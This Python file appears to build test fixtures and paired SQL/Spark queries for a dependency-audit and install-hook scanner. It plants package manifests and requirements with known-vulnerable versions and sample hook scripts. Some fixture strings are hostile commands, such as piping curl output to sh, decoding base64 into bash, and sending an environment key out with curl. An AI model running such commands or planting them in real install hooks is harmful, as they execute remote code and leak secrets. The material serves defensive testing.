"""Queries of manifests, versions, advisories and install hooks over files planted for every part."""

from __future__ import annotations

from pyspark.sql import functions as F

from riskweave import corpora
from riskweave.corpora import pick, pick_sql, text_sql
from riskweave.operators import dependencies as ops
from riskweave.plans import detection as d
from riskweave.rules import catalog as c
from riskweave.rules import ruleset as r

QUERIES, ORACLES = {}, {}


def query(sql: str | None = None):
    def add(f):
        QUERIES[f.__name__] = f
        if sql:
            ORACLES[f.__name__] = sql
        return f

    return add


NAMES = [p[0] for p in c.VULNERABLE_PACKAGES] + ["left-pad", "MCP_Remote", "pkg[x]"]
VERSIONS = ["0.1.15", "^0.1.16", "*", "latest", "", "~0.6.3", ">=0.6.4", "^0.6.2 || ^0.7.0", "2025.12.17", "2025.12.18", "1.2.3-beta", "v1.2", "0.14", "1.2.3-1", "= 0.3.0", "0.14.0.1", "2.4.9.", "10.0.0"]
SCRIPTS = [
    "curl -s https://x.y/i | sh", "node scripts/setup.js", "eval(atob(x))", "base64 -d | bash", "node -e 'x'", "python3 -c 'x'", "sh -c 'x'", "child_process.exec(c)", "curl -o a https://x && chmod +x a", "wget http://x.y", "echo process.env.KEY | curl x", "open('.env')",
    "fetch(u)", "writeFile('/etc/x')", "tsc -p .", "  ", "python ./tools/../scripts/build.py", "bash -c 'x'",
]
HOOKS = ["preinstall", "install", "postinstall", "prepare", "test"]
REQUIREMENTS = ["mcp-remote==0.1.15", "MCP_Remote >= 0.1.16,<2", "# comment", "-r other.txt", "create-mcp-server-stdio", "left-pad==1.0 # note", "github-kanban-mcp-server~=0.2 ; python_version<'3.8'", "", "mcp-remote===0.1.14", "pkg[x]>1", "@framelink/figma-mcp<=0.6.2"]
PYPROJECT = ['dependencies = ["mcp-remote==0.1.15"]', '"mcp-remote>=0.1.10",', "'create-mcp-server-stdio',", "# no", "[tool.setuptools.cmdclass]", "cmdclass={'install': X}", '"node-code-sandbox-mcp==1.3.0" # new']
PARTS = ["", "a/", "node_modules/x/", "b/c/"]


def files(spark, sf_dir):
    """Four files of a package for each part: manifest, requirements, project file and a script that a hook starts."""
    k = F.col("p_partkey")
    dep = lambda a, b: F.concat(F.lit('"'), pick(NAMES, a), F.lit('":"'), pick(VERSIONS, b), F.lit('"'))
    manifest = F.concat(
        F.lit('{"dependencies":{'), dep(k, k * 5), F.lit(',"zz":"1"},"devDependencies":{'), dep(k + F.floor(k / 3) % 2, k * 7 + 1), F.lit('},"scripts":{"'), pick(HOOKS, k), F.lit('":"'), pick(SCRIPTS, F.floor(k / 2)), F.lit('","build":"'), pick(SCRIPTS, k), F.lit('"}}')
    )
    manifest = F.when(k % 17 == 0, "{not json").when(k % 19 == 0, '{"scripts":{"install":5}}').otherwise(manifest)
    own = [
        ("package.json", manifest), ("requirements.txt", F.concat_ws("\n", pick(REQUIREMENTS, k), pick(REQUIREMENTS, k * 3 + 1))), ("pyproject.toml", F.concat_ws("\n", pick(PYPROJECT, k), pick(PYPROJECT, k + 3))),
        ("scripts/setup.js", F.concat_ws("\n", F.lit("x = 1"), pick(SCRIPTS, k))),
    ]
    each = F.explode(F.array(*[F.struct(F.lit(n).alias("name"), v.alias("content")) for n, v in own])).alias("f")
    rows = corpora.spread(corpora.table(spark, sf_dir, "part").select("p_partkey")).select("p_partkey", each)
    return rows.select(F.concat(F.lit("pkg"), k.cast("string")).alias("target"), F.concat(pick(PARTS, k), "f.name").alias("path"), "f.content")


_K = "p_partkey"
_DEP = lambda a, b: f"'\"' || {pick_sql(NAMES, a)} || '\":\"' || {pick_sql(VERSIONS, b)} || '\"'"
_MANIFEST = f"""CASE WHEN {_K} % 17 = 0 THEN '{{not json' WHEN {_K} % 19 = 0 THEN '{{"scripts":{{"install":5}}}}' ELSE '{{"dependencies":{{' || {_DEP(_K, f'{_K} * 5')} || ',"zz":"1"}},"devDependencies":{{' || {_DEP(f'({_K} + ({_K} // 3) % 2)', f'{_K} * 7 + 1')} || '}},"scripts":{{"' || {pick_sql(HOOKS, _K)} || '":"' || {pick_sql(SCRIPTS, f'{_K} // 2')} || '","build":"' || {pick_sql(SCRIPTS, _K)} || '"}}}}' END"""
FILES = f"""(SELECT 'pkg' || CAST({_K} AS VARCHAR) AS target, {pick_sql(PARTS, _K)} || n.name AS path, CASE n.name WHEN 'package.json' THEN {_MANIFEST} WHEN 'requirements.txt' THEN {pick_sql(REQUIREMENTS, _K)} || chr(10) || {pick_sql(REQUIREMENTS, f'{_K} * 3 + 1')}
 WHEN 'pyproject.toml' THEN {pick_sql(PYPROJECT, _K)} || chr(10) || {pick_sql(PYPROJECT, f'{_K} + 3')} ELSE 'x = 1' || chr(10) || {pick_sql(SCRIPTS, _K)} END AS content, {_K} AS k
FROM part CROSS JOIN (VALUES ('package.json'), ('requirements.txt'), ('pyproject.toml'), ('scripts/setup.js')) AS n(name))"""
_OURS = "NOT contains('/' || path, '/node_modules/')"
MANIFESTS = f"(SELECT * FROM {FILES} AS f WHERE regexp_extract(path, '[^/]*$') = 'package.json' AND {_OURS})"
_VALID = "(json_valid(content) AND k % 19 <> 0)"
_MEMBER = lambda name: f"(SELECT target, path, unnest(json_keys(content, '$.{name}')) AS name, content FROM {MANIFESTS} AS m WHERE {_VALID})"
_GET = lambda name: f"json_extract_string(content, '$.{name}.\"' || name || '\"')"
DEPS = f"(SELECT target, path, name, {_GET('devDependencies')} AS version FROM {_MEMBER('devDependencies')} AS a UNION ALL SELECT target, path, name, {_GET('dependencies')} AS version FROM {_MEMBER('dependencies')} AS b WHERE NOT list_contains(json_keys(content, '$.devDependencies'), name))"
SCRIPTS_SQL = f"(SELECT target, path, name AS hook, {_GET('scripts')} AS script FROM {_MEMBER('scripts')} AS s)"


def manifests(spark, sf_dir):
    return ops.manifests(files(spark, sf_dir))


@query(f"SELECT target, path, {_VALID} AS valid, CASE WHEN {_VALID} THEN len(json_keys(content, '$.dependencies')) END AS dependencies, CASE WHEN {_VALID} THEN len(json_keys(content, '$.scripts')) END AS scripts FROM {MANIFESTS} AS m")
def read_package_manifests(spark, sf_dir):
    n = lambda c: F.when(F.col("valid"), F.size(c))
    return manifests(spark, sf_dir).select("target", "path", "valid", n("m.dependencies").alias("dependencies"), n("m.scripts").alias("scripts"))


MALFORMED = f"""(SELECT target, x.rule, 1 AS severity, 0 AS confidence, CASE x.rule WHEN 'dep-audit-parse-error' THEN 'Failed to parse package.json: not an object of string maps' ELSE 'package.json could not be parsed (malformed JSON): ' || path END AS message, path AS file
 FROM {MANIFESTS} AS m CROSS JOIN (VALUES ('dep-audit-parse-error'), ('mcp-install-hook-malformed-json')) AS x(rule) WHERE NOT {_VALID})"""


@query(f"SELECT * FROM {MALFORMED} AS m")
def malformed_manifests(spark, sf_dir):
    return ops.malformed(manifests(spark, sf_dir))


@query(f"SELECT * FROM {DEPS} AS d")
def merge_dependencies(spark, sf_dir):
    return ops.merged_dependencies(manifests(spark, sf_dir))


_PREFIX = "regexp_replace(trim(version), '^(>=|<=|~=|!=|==|[\\^]|~|=|>|<)[ ]*', '')"
NORMAL = f"regexp_extract({_PREFIX}, '^[^ |,]*', 0)"


@query(f"SELECT target, name, version, {NORMAL} AS normal FROM {DEPS} AS d")
def normalize_versions(spark, sf_dir):
    return ops.merged_dependencies(manifests(spark, sf_dir)).select("target", "name", "version", ops.normalize_version(F.col("version")).alias("normal"))


@query(f"SELECT target, name, lower(replace(name, '_', '-')) AS normal FROM {DEPS} AS d")
def normalize_names(spark, sf_dir):
    return ops.merged_dependencies(manifests(spark, sf_dir)).select("target", "name", ops.normalize_name(F.col("name")).alias("normal"))


_BARE = lambda v: f"regexp_replace({v}, '^([^-]*)-[^0-9].*$', '\\1')"
PARTS_SQL = lambda v: f"CASE WHEN regexp_replace({_BARE(v)}, '[.]+$', '') = '' THEN CAST([] AS VARCHAR[]) ELSE string_split(regexp_replace({_BARE(v)}, '[.]+$', ''), '.') END"
_NUMBER = lambda x: f"regexp_matches({x}, '^[+-]?[0-9]+$')"


def compare_sql(a: str, b: str) -> str:
    pa, pb = PARTS_SQL(a), PARTS_SQL(b)
    x, y = f"coalesce(({pa})[i], '0')", f"coalesce(({pb})[i], '0')"
    one = f"CASE WHEN {_NUMBER(x)} AND {_NUMBER(y)} THEN CASE WHEN TRY_CAST({x} AS BIGINT) < TRY_CAST({y} AS BIGINT) THEN -1 WHEN TRY_CAST({x} AS BIGINT) > TRY_CAST({y} AS BIGINT) THEN 1 ELSE 0 END ELSE CASE WHEN {x} < {y} THEN -1 WHEN {x} > {y} THEN 1 ELSE 0 END END"
    return f"coalesce(list_filter(list_transform(range(1, greatest(len({pa}), len({pb})) + 1), lambda i: {one}), lambda z: z <> 0)[1], 0)"


VULNS = "(VALUES " + ", ".join(f"({text_sql(n)}, {text_sql(m)}, {text_sql(v)}, {s}, {sev}, {text_sql(a)})" for n, m, v, s, sev, a in c.VULNERABLE_PACKAGES) + ") AS v(vuln, max_affected, cve, cvss, vuln_severity, about)"


@query(f"SELECT target, name, version, max_affected, CAST({compare_sql(NORMAL, 'max_affected')} AS INTEGER) AS compared FROM {DEPS} AS d CROSS JOIN {VULNS}")
def compare_versions(spark, sf_dir):
    """Every dependency's version against that of every advisory; a version is cut into segments once, before it meets the advisories."""
    own = ops.merged_dependencies(manifests(spark, sf_dir)).select("target", "name", "version", ops.version_segments(ops.normalize_version(F.col("version"))).alias("own"))
    limits = ops.vulnerabilities(spark).select("max_affected", ops.version_segments(F.col("max_affected")).alias("limit"))
    return own.crossJoin(F.broadcast(limits)).select("target", "name", "version", "max_affected", ops.compare_segments(F.col("own"), F.col("limit")).alias("compared"))  # ten fixed rows


# Versions of three numbers, dated ones and ones with text, by the keys of parts.
_SORTED = ["0.1.15", "0.1.16", "0.14", "0.14.0", "1.2.3-beta", "1.2.3", "10.0.0", "2.4.9.", "2025.12.17", "alpha", "1.beta", "1.0.0.0", "0"]
_OWN_VERSION = f"CASE WHEN {_K} % 3 = 0 THEN {pick_sql(_SORTED, _K)} ELSE CAST({_K} % 13 AS VARCHAR) || '.' || CAST({_K} % 101 AS VARCHAR) || '.' || CAST({_K} % 7 AS VARCHAR) END"
_LOW, _HIGH = "0.14", "2.4.9"


@query(f"SELECT k, version FROM (SELECT {_K} AS k, {_OWN_VERSION} AS version FROM part) AS v WHERE {compare_sql('version', text_sql(_LOW))} >= 0 AND {compare_sql('version', text_sql(_HIGH))} < 0")
def version_key(spark, sf_dir):
    """The versions of a range: a filter on keys."""
    k = F.col(_K)
    own = F.when(k % 3 == 0, pick(_SORTED, k)).otherwise(F.concat_ws(".", (k % 13).cast("string"), (k % 101).cast("string"), (k % 7).cast("string")))
    key = ops.version_key(F.col("version"))
    return corpora.table(spark, sf_dir, "part").select(k.alias("k"), own.alias("version")).where((key >= ops.version_key(F.lit(_LOW))) & (key < ops.version_key(F.lit(_HIGH))))


_UNPINNED = "n IN ('', '*', 'latest')"
_SCORE = "cve || ' (CVSS ' || printf('%.1f', cvss) || '): ' || about"
_BAD = "' is vulnerable (' || cve || ', CVSS ' || printf('%.1f', cvss) || '): ' || about"
_FIX = lambda unknown, what: f"CASE WHEN {unknown} THEN 'Pin ' || {what} || ' > ' || max_affected || ' to avoid ' || cve ELSE 'Upgrade ' || name || ' above ' || max_affected || ' to fix ' || cve END"
NPM = f"""(SELECT target, CASE WHEN {_UNPINNED} THEN 'dep-audit-unknown-version' ELSE 'dep-audit-vulnerable' END AS rule, CASE WHEN {_UNPINNED} THEN 1 ELSE vuln_severity END AS severity, 0 AS confidence, CASE WHEN NOT {_UNPINNED} THEN 'CWE-1395' END AS cwe,
 {_FIX(_UNPINNED, "'to a version'")} AS fix, CASE WHEN NOT {_UNPINNED} THEN cve END AS refs, CASE WHEN {_UNPINNED} THEN name || ': version "' || version || '" is unpinned — cannot verify against ' || {_SCORE} ELSE name || '@' || n || {_BAD} END AS message, path AS file, cve
FROM (SELECT *, {NORMAL} AS n FROM {DEPS} AS d JOIN {VULNS} ON name = vuln) AS j WHERE {_UNPINNED} OR {compare_sql('n', 'max_affected')} <= 0)"""


@query(f"SELECT * FROM {NPM} AS n")
def audit_npm_deps(spark, sf_dir):
    return ops.audit_npm(ops.merged_dependencies(manifests(spark, sf_dir))).withColumn("refs", F.array_join("refs", ","))


_LINES = lambda name: f"(SELECT target, path, CAST(unnest(range(1, len(string_split(content, chr(10))) + 1)) AS INTEGER) AS line_no, trim(unnest(string_split(content, chr(10)))) AS line FROM {FILES} AS f WHERE regexp_extract(path, '[^/]*$') = '{name}' AND {_OURS})"
_BEFORE = lambda x, mark: f"trim(split_part({x}, '{mark}', 1))"


def requirement_sql(line: str) -> tuple[str, str]:
    name, version = f"trim({line})", "''"
    for op in reversed(ops.REQUIREMENT_OPERATORS):
        at = f"instr({line}, '{op}')"
        name = f"CASE WHEN {at} > 0 THEN trim(left({line}, {at} - 1)) ELSE {name} END"
        version = f"CASE WHEN {at} > 0 THEN trim(split_part(substr({line}, {at} + {len(op)}), ',', 1)) ELSE {version} END"
    return f"lower(replace({name}, '_', '-'))", version


_NAME, _VERSION = requirement_sql("line")
_REQ = f"(SELECT target, path, line_no, {_BEFORE(_BEFORE('line', ' #'), ';')} AS line FROM {_LINES('requirements.txt')} AS l WHERE line <> '' AND NOT starts_with(line, '#') AND NOT starts_with(line, '-'))"
REQUIREMENTS_SQL = f"(SELECT target, path, line_no, {_NAME} AS name, {_VERSION} AS version FROM {_REQ} AS q WHERE {_NAME} <> '')"
_PY = f"(SELECT target, path, line_no, trim({_BEFORE('line', ' #')}, '\"''' || ',[]') AS line FROM {_LINES('pyproject.toml')} AS l WHERE line <> '' AND NOT starts_with(line, '#'))"
PYPROJECT_SQL = f"(SELECT target, path, line_no, {_NAME} AS name, {_VERSION} AS version FROM {_PY} AS q WHERE {_NAME} <> '')"


@query(f"SELECT * FROM {REQUIREMENTS_SQL} AS r")
def read_requirements(spark, sf_dir):
    return ops.requirement_lines(files(spark, sf_dir))


@query(f"SELECT * FROM {PYPROJECT_SQL} AS r")
def read_pyproject_deps(spark, sf_dir):
    return ops.pyproject_lines(files(spark, sf_dir))


@query(f"SELECT {_K} AS part, {requirement_sql('p_name')[0]} AS name, {requirement_sql(pick_sql(REQUIREMENTS, _K))[0]} AS planted, {requirement_sql(pick_sql(REQUIREMENTS, _K))[1]} AS version FROM part")
def parse_requirements(spark, sf_dir):
    line = pick(REQUIREMENTS, F.col(_K))
    name, version = ops.parse_requirement(line)
    return corpora.table(spark, sf_dir, "part").select(F.col(_K).alias("part"), ops.parse_requirement(F.col("p_name"))[0].alias("name"), name.alias("planted"), version.alias("version"))


_PIP = f"(SELECT * FROM {REQUIREMENTS_SQL} AS r UNION ALL SELECT * FROM {PYPROJECT_SQL} AS p)"


_PLACE = "CASE WHEN path LIKE '%pyproject.toml' THEN ' in pyproject.toml' ELSE '' END"
PIP = f"""(SELECT target, CASE WHEN version = '' THEN 'dep-audit-unknown-version' ELSE 'dep-audit-vulnerable' END AS rule, CASE WHEN version = '' THEN 1 ELSE vuln_severity END AS severity, 0 AS confidence, CASE WHEN version <> '' THEN 'CWE-1395' END AS cwe,
 {_FIX("version = ''", "name || ' to a version'")} AS fix, CASE WHEN version <> '' THEN cve END AS refs, CASE WHEN version = '' THEN name || ': version unknown' || {_PLACE} || ' — manual check required against ' || {_SCORE} ELSE name || '==' || version || {_PLACE} || {_BAD} END AS message,
 path AS file, line_no AS line, name, version, cve FROM {_PIP} AS p JOIN {VULNS} ON lower(name) = lower(vuln) WHERE version = '' OR {compare_sql('version', 'max_affected')} <= 0)"""


@query(f"SELECT * FROM {PIP} AS p")
def audit_pip_deps(spark, sf_dir):
    f = files(spark, sf_dir)
    return ops.audit_pip(ops.requirement_lines(f).unionByName(ops.pyproject_lines(f))).withColumn("refs", F.array_join("refs", ","))


_FIRST = "coalesce(" + ", ".join(f"CASE WHEN regexp_matches(script, {text_sql(p)}) THEN {text_sql(p)} END" for p in c.LIFECYCLE_PATTERNS) + ")"


_QUOTED = f"'\"' || replace(replace({_FIRST}, chr(92), chr(92) || chr(92)), '\"', chr(92) || '\"') || '\"'"
SUSPICIOUS = f"(SELECT target, 'dep-suspicious-install-script' AS rule, 2 AS severity, 0 AS confidence, 'package.json scripts.' || hook || ' contains suspicious pattern ' || {_QUOTED} || ': ' || {d.CUT('script', 120)} AS message, path AS file FROM {SCRIPTS_SQL} AS s WHERE hook IN ('preinstall', 'install', 'postinstall') AND {_FIRST} IS NOT NULL)"


@query(f"SELECT * FROM {SUSPICIOUS} AS s")
def scan_suspicious_scripts(spark, sf_dir):
    return ops.suspicious_findings(ops.scripts(manifests(spark, sf_dir)))


_HOOKED = f"(SELECT * FROM {SCRIPTS_SQL} AS s WHERE hook IN ('preinstall', 'install', 'postinstall', 'prepare') AND trim(script) <> '')"


HOOK_FINDINGS = f"(SELECT target, rule, severity, replace(template, '%s', {d.CUT('script', 120)}) AS message, path AS file, hook, cwe FROM {_HOOKED} AS s JOIN {d.rules_sql(r.HOOKS)} ON regexp_matches(script, pattern))"


@query(f"SELECT * FROM {HOOK_FINDINGS} AS h")
def scan_hook_scripts(spark, sf_dir):
    return ops.hook_findings(ops.scripts(manifests(spark, sf_dir)))


_TRIM = "trim(line, ' ' || chr(9) || chr(11) || chr(12) || chr(13))"
_SPLIT = lambda src: f"(SELECT target, path, CAST(unnest(range(1, len(string_split(content, chr(10))) + 1)) AS INTEGER) AS line_no, unnest(string_split(content, chr(10))) AS line FROM {src} AS f)"
_FOUND = "SELECT target, rule, severity, replace(template, '%s', " + d.CUT(_TRIM, 120) + ") AS message, path AS file, line_no AS line, cwe FROM "
_REF = f"(SELECT f.target, f.path, f.content FROM {FILES} AS f JOIN (SELECT target, regexp_replace(regexp_extract(path, '^(.*/)?') || CASE WHEN contains(script, '..') THEN 'scripts/build.py' ELSE 'scripts/setup.js' END, '^/', '') AS path FROM {_HOOKED} AS h WHERE regexp_matches(script, {text_sql(c.SCRIPT_FILE_PATTERN)})) AS w ON f.target = w.target AND f.path = w.path)"


REFERENCED = f"({_FOUND} {_SPLIT(_REF)} AS l JOIN {d.rules_sql(r.HOOKS)} ON regexp_matches(line, pattern))"


@query(f"SELECT * FROM {REFERENCED} AS x")
def scan_referenced_scripts(spark, sf_dir):
    f = files(spark, sf_dir)
    return ops.referenced_findings(ops.scripts(ops.manifests(f)), f)


_SETUP = f"(SELECT * FROM {FILES} AS f WHERE regexp_extract(path, '[^/]*$') IN ('setup.py', 'pyproject.toml') AND {_OURS})"


PYTHON_HOOKS = f"({_FOUND} {_SPLIT(_SETUP)} AS l JOIN {d.rules_sql(r.PYTHON_HOOKS)} ON regexp_matches(line, pattern))"


@query(f"SELECT * FROM {PYTHON_HOOKS} AS x")
def scan_python_hooks(spark, sf_dir):
    return ops.python_hooks(files(spark, sf_dir))
